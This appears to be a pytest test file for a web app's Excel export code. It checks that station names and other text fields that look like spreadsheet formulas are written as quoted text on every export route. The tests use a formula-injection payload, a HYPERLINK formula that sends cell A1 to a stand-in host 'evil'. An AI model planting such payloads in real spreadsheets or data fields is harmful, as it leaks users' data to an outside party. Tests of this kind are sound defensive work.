"""Excel exports store text as text (issue 7 §4): a station named ``=HYPERLINK(...)`` exports as a
string, not a formula, on EVERY export route of app.url_map."""
import io
from datetime import date, datetime
from decimal import Decimal

from openpyxl import load_workbook
from sqlalchemy import String, select
from sqlalchemy import inspect as sa_inspect

from app.extensions import db
from app.models import Station
from app.services import excel

PAYLOAD = '=HYPERLINK("http://evil/?x="&A1,"x")'
SHORT = "=1+1"


def workbook(data):
    return load_workbook(io.BytesIO(data))  # not read-only: data_type "f" marks a formula


def cells(data):
    ws = workbook(data).active
    return [c for row in ws.iter_rows() for c in row]


def test_write_rows_keeps_text_as_text_and_numbers_as_numbers():
    values = [PAYLOAD, "+1+2", "-3+4", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "plain", "-",
              7, Decimal("-1.2500"), 2.5, True, datetime(2024, 3, 1, 8, 30), date(2024, 3, 1), None]
    buf = io.BytesIO()
    excel.write_rows(buf, "t", ["=header", "b"], iter([values]))
    ws = workbook(buf.getvalue()).active
    head = [c for c in ws[1]]
    assert head[0].value == "=header" and head[0].data_type == "s"
    row = [c for c in ws[2]]
    for cell, value in zip(row, values, strict=False):
        assert cell.data_type != "f", (value, cell.data_type)
        if isinstance(value, str):
            assert cell.value == value and cell.data_type == "s", (value, cell.value, cell.data_type)
    for i in range(10):
        if excel.is_dangerous(values[i]):
            assert row[i].quotePrefix, values[i]
    assert row[10].value == 7 and row[10].data_type == "n"
    assert row[11].data_type == "n" and Decimal(str(row[11].value)) == Decimal("-1.25")
    assert row[12].value == 2.5 and row[12].data_type == "n"
    assert row[13].value is True
    assert row[14].value == datetime(2024, 3, 1, 8, 30)


def test_station_named_like_a_formula_exports_as_a_string(app, admin_client):
    with app.app_context():
        station = db.session.scalar(select(Station).order_by(Station.id).limit(1))
        sid, old = station.id, station.name
        station.name = PAYLOAD
        db.session.commit()
    try:
        for url in ("/stationview/export/", "/pileview/export/"):
            rv = admin_client.get(url)
            assert rv.status_code == 200
            hits = [c for c in cells(rv.data) if c.value == PAYLOAD]
            assert hits, url
            assert all(c.data_type == "s" for c in hits), url
            assert all(c.quotePrefix for c in hits), url
    finally:
        with app.app_context():
            db.session.get(Station, sid).name = old
            db.session.commit()


def _seed_text_columns(app):
    """Every export screen's first row: each plain text column shown in the list (not a choice
    column) gets a formula-looking value. Returns what to restore."""
    saved = []
    with app.app_context():
        for view in app.appbuilder.baseviews:
            dm = getattr(view, "datamodel", None)
            if dm is None or not hasattr(view, "export_rows"):
                continue
            model = dm.obj
            cols = sa_inspect(model).columns
            choices = set(getattr(view, "choice_columns", {}) or {})
            names = [c for c in view.list_columns if c in cols and c not in choices
                     and isinstance(cols[c].type, String) and not cols[c].primary_key]
            item = db.session.scalar(select(model).order_by(*sa_inspect(model).primary_key).limit(1))
            if item is None:
                continue
            for name in names:
                length = cols[name].type.length
                value = PAYLOAD if not length or length >= len(PAYLOAD) else SHORT[:length]
                if len(value) < 2 or any(s[0] is item and s[1] == name for s in saved):
                    continue
                saved.append((item, name, getattr(item, name)))
                setattr(item, name, value)
        db.session.commit()
        return [(type(item), sa_inspect(item).identity, name, old) for item, name, old in saved]


def _restore(app, saved):
    with app.app_context():
        for model, ident, name, old in saved:
            setattr(db.session.get(model, ident), name, old)
        db.session.commit()


def test_every_export_route_writes_no_formula(app, admin_client):
    exports = sorted({r.rule for r in app.url_map.iter_rules() if r.endpoint.endswith(".export")})
    assert len(exports) >= 25, exports  # every list screen with an Excel export, and the reports
    saved = _seed_text_columns(app)
    assert len(saved) >= 20
    try:
        with_payload = []
        for url in exports:
            rv = admin_client.get(url)
            assert rv.status_code == 200, url
            assert rv.headers["Content-Type"].startswith(excel.XLSX_MIME), url
            all_cells = cells(rv.data)
            formulas = [c.coordinate for c in all_cells if c.data_type == "f"]
            assert not formulas, (url, formulas)
            seeded = [c for c in all_cells if isinstance(c.value, str) and c.value.startswith("=")]
            assert all(c.data_type == "s" and c.quotePrefix for c in seeded), url
            if seeded:
                with_payload.append(url)
        # the seeded text really went through the exports of every table the demo data fills
        assert "/stationview/export/" in with_payload
        assert len(with_payload) >= 15, sorted(set(exports) - set(with_payload))
    finally:
        _restore(app, saved)


def test_every_export_view_writes_formula_looking_text_as_text(app):
    """Each export screen's own value path (_export_value, with its overrides: masked secrets,
    live order figures, ...) for a row whose every text column looks like a formula: the sheet
    holds text cells, never a formula (covers the screens whose tables the demo leaves empty)."""
    checked = 0
    with app.test_request_context():
        for view in app.appbuilder.baseviews:
            dm = getattr(view, "datamodel", None)
            if dm is None or not hasattr(view, "export_rows"):
                continue
            model = dm.obj
            cols = sa_inspect(model).columns
            item = model()
            texts = []
            for name in view.list_columns:
                if name in cols and isinstance(cols[name].type, String) and not cols[name].primary_key:
                    setattr(item, name, PAYLOAD)
                    texts.append(name)
            row = [view._export_value(item, c) for c in view.list_columns]
            buf = io.BytesIO()
            excel.write_rows(buf, "t", [str(view.label_columns.get(c, c)) for c in view.list_columns], iter([row]))
            written = [c for c in workbook(buf.getvalue()).active[2]]
            assert not [c.coordinate for c in written if c.data_type == "f"], type(view).__name__
            for cell in written:
                if isinstance(cell.value, str) and excel.is_dangerous(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (type(view).__name__, cell.value)
            if texts:
                assert any(c.value == PAYLOAD or (isinstance(c.value, str) and c.value.startswith("="))
                           for c in written), (type(view).__name__, texts)
            checked += 1
    assert checked >= 25
